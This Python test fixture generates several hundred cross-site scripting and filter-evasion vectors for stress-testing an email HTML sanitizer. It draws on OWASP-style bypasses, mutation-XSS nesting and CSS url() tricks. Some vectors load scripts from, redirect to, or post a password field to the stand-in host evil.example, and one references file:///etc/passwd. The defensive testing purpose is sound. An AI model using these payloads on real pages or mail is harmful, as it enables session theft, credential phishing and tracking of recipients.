# ruff: noqa: E501
"""More than 300 ways to smuggle something that acts into a mail, made from a few dozen shapes.

Shapes follow the families of OWASP's filter evasion list, html5sec and the published
mutation attacks; each `{js}` is code that would trip the wire of the browser test.
"""

from itertools import product

JS = "parent.tripped=1,window.tripped=1"

HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onbegin",
    "onpointerenter", "onwheel", "onbeforetoggle", "oncontentvisibilityautostatechange", "onscrollend",
)  # fmt: skip
CARRIERS = (
    "<img src=x {handler}={js}>",
    '<img src="x" {handler}="{js}">',
    "<img/src=x/{handler}={js}>",
    "<IMG SRC=x {handler}\n=\n'{js}'>",
    '<a href="https://a.example" {handler}="{js}">x</a>',
    "<div {handler}={js} style='animation:x 1s' tabindex=1 autofocus>x</div>",
    "<details open {handler}={js}><summary>x</summary></details>",
    "<table background=x {handler}={js}><tr><td {handler}={js}>x</table>",
    "<font color=red {handler}={js}>x</font>",
    '<p title="\'><img src=x {handler}={js}>">x</p>',
)
ADDRESSES = (
    "javascript:{js}", "JaVaScRiPt:{js}", " javascript:{js}", "java\tscript:{js}", "java\nscript:{js}",
    "java\r\nscript:{js}", "&#106;avascript:{js}", "&#x6A;avascript:{js}", "javascript&colon;{js}",
    "\x01javascript:{js}", "java\x00script:{js}", "&Tab;javascript:{js}", "vbscript:msgbox(1)",
    "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg>",
    "blob:https://a.example/1", "file:///etc/passwd", "view-source:javascript:{js}", "feed:javascript:{js}",
    "livescript:{js}", "mocha:{js}", "jar:javascript:{js}", "\u2028javascript:{js}", "//evil.example/x",
    "\\\\evil.example\\x", "/settings", "?x=1", "ms-word:ofe|u|https://evil.example",
)  # fmt: skip
PLACES = (
    '<a href="{address}">x</a>',
    "<a href='{address}' target=_self>x</a>",
    '<img src="{address}">',
    '<form action="{address}"><button>x</button></form>',
    '<button formaction="{address}">x</button>',
    '<iframe src="{address}"></iframe>',
    '<object data="{address}"></object>',
    '<svg><a xlink:href="{address}"><text y=20>x</text></a></svg>',
    '<base href="{address}">',
)
STYLES = (
    "background:url({address})", "background-image:url('https://evil.example/x.png')",
    "list-style:url(https://evil.example/x)", "content:url(https://evil.example/x)",
    "position:fixed;top:0;left:0;width:100%;height:100%", "position:absolute", "behavior:url(x.htc)",
    "width:expression({js})", "-moz-binding:url(x)", "color:red;background:u\\72l(https://evil.example/x)",
    "background:/**/url(https://evil.example/x)", "cursor:url(https://evil.example/x),auto",
    "background:image-set('https://evil.example/x' 1x)", "font-family:x;src:url(https://evil.example/x)",
    "filter:url(https://evil.example/x#y)", "mask:url(https://evil.example/x)", "color:var(--x,url(x))",
    "@import 'https://evil.example/x'", "animation:x 1s", "transition:all 9s", "z-index:99999",
    "margin:-5000px;position:relative", "display:contents", "width:calc(1px*attr(x))",
    "background:URL(https://evil.example/x)", "background:url\t(https://evil.example/x)",
    "color:red}}body{{background:url(https://evil.example/x)", "float:left;clear:both;opacity:0",
)  # fmt: skip
WHOLE = (
    "<script>{js}</script>", "<ScRiPt>{js}</sCrIpT>", "<script src=https://evil.example/x.js></script>",
    "<script/x>{js}</script>", "<script\n>{js}</script\n>", "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>{js}//<</script>", "<script>{js}", "<script x='></script>'>{js}</script>",
    "<svg onload={js}>", "<svg><script>{js}</script></svg>", "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{js}>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>", "<svg><use href='data:image/svg+xml,x'/>",
    "<svg><desc><img src=x onerror={js}></desc></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={js}&gt;\">",
    "<math><mtext><img src=x onerror={js}></mtext></math>", "<math href=javascript:{js}>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={js}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={js} src>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">", "<noembed><img src=x onerror={js}></noembed>",
    "<noframes><img title=\"</noframes><img src=x onerror={js}>\"></noframes>",
    "<xmp><img title=\"</xmp><img src=x onerror={js}>\"></xmp>", "<plaintext><img src=x onerror={js}>",
    "<textarea><img title=\"</textarea><img src=x onerror={js}>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror={js}>\"></title>",
    "<template><img src=x onerror={js}></template>", "<template shadowrootmode=open><script>{js}</script></template>",
    "<iframe srcdoc=\"<script>{js}</script>\"></iframe>", "<iframe><img title=\"</iframe><img src=x onerror={js}>\">",
    "<embed src=javascript:{js}>", "<applet code=x></applet>", "<frameset onload={js}><frame src=x></frameset>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<meta http-equiv=Set-Cookie content=a=b>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=https://evil.example>",
    "<link rel=dns-prefetch href=//evil.example>", "<base href=https://evil.example/><a href=x>x</a>",
    "<style>@import 'https://evil.example/x';</style>", "<style>*{{background:url(https://evil.example/x)}}</style>",
    "<style><!--</style><script>{js}//--></script>", "<style></style\x20<script>{js}</script>",
    "<form id=x></form><button form=x formaction=javascript:{js}>x</button>",
    "<form action=https://evil.example><input name=password><input type=submit></form>",
    "<input autofocus onfocus={js}>", "<select autofocus onfocus={js}><option>x</select>",
    "<isindex action=javascript:{js} type=image>", "<keygen autofocus onfocus={js}>",
    "<video><source onerror={js}></video>", "<video poster=https://evil.example/x onloadstart={js}>",
    "<audio src=https://evil.example/x onerror={js}>", "<picture><source srcset=https://evil.example/x><img></picture>",
    "<img srcset='https://evil.example/x 1x'>", "<img src=x longdesc=javascript:{js}>", "<img dynsrc=javascript:{js}>",
    "<img lowsrc=javascript:{js}>", "<body onload={js} background=https://evil.example/x>", "<bgsound src=x>",
    "<marquee onstart={js}>x</marquee>", "<layer src=x></layer>", "<ilayer src=x></ilayer>", "<dialog open>x</dialog>",
    "<portal src=https://evil.example></portal>", "<fencedframe src=x></fencedframe>", "<object><param name=x></object>",
    "<!--><img src=x onerror={js}>-->", "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={js}>]]>", "<?xml-stylesheet href=\"javascript:{js}\"?>", "<?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x \"y\">]>", "<!ELEMENT img>", "<comment><img src=\"</comment><img src=x onerror={js}\">",
    "<a href=\"x\"\"onmouseover={js}\">x</a>", "<a href=x`onclick={js}`>x</a>", "<a/href='x'/onclick={js}>x</a>",
    "<img \"\"\"><script>{js}</script>\">", "<img src=`x`onerror={js}>", "<img src=x:x onerror\x0b={js}>",
    "<img src=x onerror\x0c={js}>", "<b \x00onclick={js}>x</b>", "<x-b onclick={js}>x</x-b>", "<x onclick={js}>x</x>",
    "<a xml:base=javascript:{js} href=#>x</a>", "<div id=__proto__>x</div>", "<a name=cookie href=https://a.example>x</a>",
    "<img name=getElementById src=cid:x>", "<a ping=https://evil.example href=https://a.example>x</a>",
    "<a download href=https://a.example>x</a>", "<a target=_top href=https://a.example>x</a>", "<div contenteditable>x</div>",
    "<div popover id=a>x</div><button popovertarget=a>x</button>", "<div slot=x is=y nonce=z part=p>x</div>",
    "<ul><li style=list-style-image:url(javascript:{js})>x</ul>", "<div style=\"x:expression({js})\">x</div>",
    "<table><td background=https://evil.example/x>x</table>", "<div datasrc=#a datafld=b>x</div>",
    "<table><caption><svg><title><table><img src=x onerror={js}>", "<p><svg><p><style><!--</style><img src=x onerror={js}>",
    "<div><b><p><b><p><b><script>{js}</script>", "<b><i></b><img src=x onerror={js}></i>", "<tr><td><img src=x onerror={js}>",
    "<d3v/onmouseover={js}>x", "<%<!--'%><script>{js}</script -->", "<img src=x onerror={js}", "<img src='x onerror={js}>",
    "&lt;script&gt;{js}&lt;/script&gt;", "\ufeff<script>{js}</script>", "<\u017fcript>{js}</\u017fcript>", "<\x00script>{js}</script>",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-", "\xbcscript\xbe{js}\xbc/script\xbe", "<script>{js}<\\/script>",
)  # fmt: skip


def vectors() -> list[str]:
    """All of them, each once."""
    made = [shape.format(handler=handler, js=JS) for shape, handler in product(CARRIERS, HANDLERS)]
    addresses = [address.format(js=JS) for address in ADDRESSES]
    made += [place.format(address=address) for place, address in product(PLACES, addresses)]
    styles = [style.format(js=JS, address="https://evil.example/x") for style in STYLES]
    made += [f'<p style="{style}">x</p>' for style in styles]
    made += [f"<td style='{style.upper()}'>x</td>" for style in styles]
    made += [shape.format(js=JS) for shape in WHOLE]
    return list(dict.fromkeys(made))
